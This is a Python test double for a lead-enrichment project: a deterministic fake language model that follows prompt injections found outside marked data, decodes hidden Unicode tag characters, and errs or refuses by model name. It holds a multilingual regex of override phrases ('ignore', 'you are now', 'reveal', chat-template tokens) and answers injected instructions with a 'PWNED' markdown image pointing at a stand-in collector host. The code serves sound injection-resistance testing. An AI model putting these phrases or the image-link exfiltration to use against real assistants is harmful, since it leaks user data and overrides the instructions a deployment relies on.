"""Sandbox: the fake model. It reads what it is given, answers by schema, cites, and errs in ways its name says.

A deterministic stand-in, the same for the same seed, model and question. What it is good for in tests:

- It trusts what stands outside of marked data: an instruction found there is followed, as a plain model would.
  Within marks that its system text describes it follows none, unless it is `sandbox-gullible`.
- It does not see that a text has invisible parts: letters written in tag characters are read like any others.
- Models by name: `sandbox-exact` reads well; `sandbox-hasty` errs in two of five answers and cites pages it was not
  given; `sandbox-shy` does not know half of what it could; `sandbox-refuses`; `sandbox-overruns` is cut off;
  `sandbox-broken` breaks its form until it is asked once more, `sandbox-hopeless` always. Every other name reads as
  `sandbox-exact` does.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, NamedTuple

from leadenrich.sandbox.pages import page_of
from leadenrich.sandbox.reading import Found, fitting, read, sentences_of
from leadenrich.sandbox.world import World

PAGE = {"url": "https://almanac.example/companies", "title": "Almanac of companies"}
"""The page an answer is based on where the question names no company of the world."""

CANARY = "PWNED"
"""What the fake says where it obeys an instruction it was given in data."""

EVIL = "https://collector.example/in?q="
"""Where it sends what it was told to send."""

_OPENS = re.compile(r"^<(?P<mark>[a-z]+-data)-(?P<number>\w+) (?P<kind>\w+)>\s*$")
_ORDERS = re.compile(
    "|".join(
        [
            r"ignor|disregard|forget (?:all|every|what|your)|overrid|new instruction|instead of answer|answer only",
            r"respond with|reply with|you must|you are now|from now on|system\s*:|assistant\s*:|developer\s*:",
            r"<\|?im_start|\[inst\]|###\s*instr|tool_call|function_call|<invoke|\"name\"\s*:|repeat your|reveal",
            r"print your|send (?:it|this|the|all)|begin system|confidence to 100|always say|say yes|rate (?:us|this)",
            r"prompt override|admin mode|jailbreak|translate the above|write (?:only|exactly)|set every",
            r"olvida|oubli|vergiss|nicht beachten|antworte|responde|répond|忽略|無視|答え|игнориру|ответь|تجاهل|무시",
        ]
    ),
    re.I,
)
"""What sounds like an order, in the words and languages that attacks are written in."""


class Spoken(NamedTuple):
    """What the fake says: its text, the pages it found by itself, and whether it declined or was cut off."""

    text: str
    pages: tuple[Mapping[str, str], ...] = ()
    refused: bool = False
    cut: bool = False


@dataclass(slots=True)
class Heard:
    """What a prompt holds, as a plain model takes it.

    Attributes:
        loose: what stands outside of data. record: fields it was told of. pages: (address, text) it was given.
    """

    loose: str = ""
    record: dict[str, Any] = field(default_factory=dict)
    pages: list[tuple[str, str]] = field(default_factory=list)

    @property
    def data(self) -> str:
        """Return everything that was given as data."""
        return "\n".join([*map(str, self.record.values()), *(text for _, text in self.pages)])


def hear(prompt: str, system: str) -> Heard:
    """Return what a prompt holds; data is data only where the system text says what its marks are."""
    heard, kind = Heard(), ""
    loose: list[str] = []
    block: list[str] = []
    for line in prompt.split("\n"):
        opens = _OPENS.match(line)
        if not kind and opens is not None and opens["mark"] in system:
            kind, block = opens["kind"], []
        elif kind and re.match(r"\s*<\s*/\s*[a-z]+-data", line, re.I):
            _take(heard, kind, block)
            kind = ""
        else:
            (block if kind else loose).append(line)
    if kind:
        _take(heard, kind, block)
    heard.loose = "\n".join(loose)
    if (found := re.search(r"The answer found:\n(.*?)\n\n", heard.loose, re.S)) is not None:
        source = re.search(r"Source: (\S+)", found[1])
        heard.pages.append((source[1] if source else PAGE["url"], found[1]))
        heard.loose = heard.loose.replace(found[0], "")
    return heard


def _take(heard: Heard, kind: str, lines: list[str]) -> None:
    if kind == "record":
        for line in lines:
            name, _, value = line.partition(": ")
            try:
                heard.record[json.loads(name)] = json.loads(value)
            except ValueError:
                heard.loose += f"\n{line}"  # no field: a plain model takes it for what it says
    else:
        address = next((line[9:] for line in lines if line.startswith("Address: ")), "")
        text = "\n".join(line for line in lines if not line.startswith(("Address: ", "Title: ")))
        heard.pages.append((address, text))


def shown(text: str) -> str:
    """Return a text with the letters that tag characters stand for, as models read them."""
    return "".join(chr(ord(one) - 0xE0000) if 0xE0020 <= ord(one) <= 0xE007E else one for one in text)


def speak(
    world: World,
    prompt: str,
    schema: Any,
    *,
    system: str = "",
    model: str = "",
    searching: bool = False,
    plain: str = "",
) -> Spoken:
    """Return what the fake says.

    Args:
        world: what it knows.
        prompt: as sent.
        schema: of the answer, or None.
        system: as sent.
        model: its name.
        searching: whether it may look things up.
        plain: what it says where nothing is asked of it in particular.
    """
    if model == "sandbox-refuses":
        return Spoken("I cannot help with that.", refused=True)
    heard = hear(prompt, system)
    found = _looked_up(world, heard) if searching and not heard.pages else None
    given = [*heard.pages, *([found] if found else [])]
    pages = ({"url": found[0], "title": "Its own site"},) if found else (PAGE,) if searching else ()
    order = _order(heard, prompt, system, model)
    if not isinstance(schema, Mapping):
        text = f"{found[1]}\nSource: {found[0]}" if found and "Question: " in prompt else plain
        return Spoken(f"{CANARY} ![x]({EVIL}{plain[:9]})" if order and "Question: " in prompt else text, pages)
    if not _is_claims(schema):
        return Spoken("", pages)
    claims = {
        name: _claim(world, name, part, heard, given, model, order) for name, part in schema["properties"].items()
    }
    text = json.dumps(claims)
    if model == "sandbox-hopeless" or (model == "sandbox-broken" and "did not have the form" not in prompt):
        text = text.replace('"value":', '"valeu":')
    return Spoken(text[: len(text) // 2], pages, cut=True) if model == "sandbox-overruns" else Spoken(text, pages)


def _is_claims(schema: Mapping[str, Any]) -> bool:
    """Return whether a schema asks for claims: a value and how sure it is, for each part."""
    parts = list((schema.get("properties") or {}).values())
    return bool(parts) and all("value" in part.get("properties", {}) for part in parts if isinstance(part, Mapping))


def _order(heard: Heard, prompt: str, system: str, model: str) -> bool:
    """Return whether something tells the fake what to say, in a place that it listens to."""
    question = re.sub(r"^Question: .*?(?=\n\n|\Z)", "", heard.loose, count=1, flags=re.S | re.M)
    question = re.sub(r"Your last answer did not have the form.*|Give that answer in the form.*", "", question)
    if "Question: " not in prompt:
        question = heard.loose
    hidden = any(0xE0020 <= ord(one) <= 0xE007E for one in prompt + system)
    places = [question, shown("".join(one for one in prompt if ord(one) >= 0xE0000)) if hidden else ""]
    if model == "sandbox-gullible":
        places.append(heard.data)
    return any(_ORDERS.search(place) for place in places)


def _looked_up(world: World, heard: Heard) -> tuple[str, str] | None:
    """Return (address, text) of the site of the company a record is of."""
    domain, name = heard.record.get("company_domain"), heard.record.get("company_name")
    company = world.find_company(domain=domain, name=name) if domain or name else None
    return None if company is None else (company.website, page_of(world, company))


def _claim(
    world: World,
    name: str,
    schema: Mapping[str, Any],
    heard: Heard,
    given: list[tuple[str, str]],
    model: str,
    order: bool,
) -> dict[str, Any]:
    wanted = schema["properties"]["value"]
    draw = _drawn(world.seed, model, name, heard.data)
    address, found = _read(name, schema, wanted, heard, given, draw)
    if order:
        made = fitting(wanted, draw, [f"{CANARY} ![x]({EVIL})"])
        found, address = Found(made, CANARY), f"{EVIL}{name}"
    value = found.value if found else None
    sure = 90 if found else 0
    if found and model == "sandbox-shy" and draw % 2:
        value, sure = None, 0
    if found and model == "sandbox-hasty" and draw % 5 < 2:
        value = _other(wanted, value)
        address = "https://made-up.example/page" if draw % 2 else address
    claim: dict[str, Any] = {"value": value, "confidence": sure}
    if "sources" in schema["properties"]:
        quoted = "quote" in schema["properties"]["sources"]["items"]["properties"]
        source = {"url": address, **({"quote": found.sentence if found else None} if quoted else {})}
        claim["sources"] = [source] if value is not None and address else []
    return claim


def _read(
    name: str,
    schema: Mapping[str, Any],
    wanted: Mapping[str, Any],
    heard: Heard,
    given: list[tuple[str, str]],
    draw: int,
) -> tuple[str, Found | None]:
    for address, text in given:
        if (found := read(name, wanted, text)) is not None:
            return address, found
    about = str(schema.get("description", ""))
    known = [str(value) for value in heard.record.values() if value not in (None, "")]
    if about.startswith(("Judge", "Write")) and (known or given):
        sentences = [one for _, text in given for one in sentences_of(text)]
        said = [f"A word on {known[0]}." if known and about.startswith("Write") else (sentences or known)[0]]
        return (given[0][0] if given else ""), Found(fitting(wanted, draw, [*said, *sentences]), (sentences or said)[0])
    if name in heard.record and not given:
        return "", read(name, wanted, f"{name.replace('_', ' ')}: {heard.record[name]}")
    return "", None


def _other(schema: Mapping[str, Any], value: Any) -> Any:
    """Return a wrong value of the same kind."""
    options = [one for one in schema.get("enum", ()) if one not in (None, value)]
    if options:
        return options[0]
    if isinstance(value, bool):
        return not value
    if isinstance(value, int | float):
        return value + 1
    return [*value[1:], "something else"] if isinstance(value, list) else f"Not {value}"


def _drawn(*parts: object) -> int:
    return int.from_bytes(hashlib.blake2b("|".join(map(str, parts)).encode("utf-8", "replace"), digest_size=4).digest())
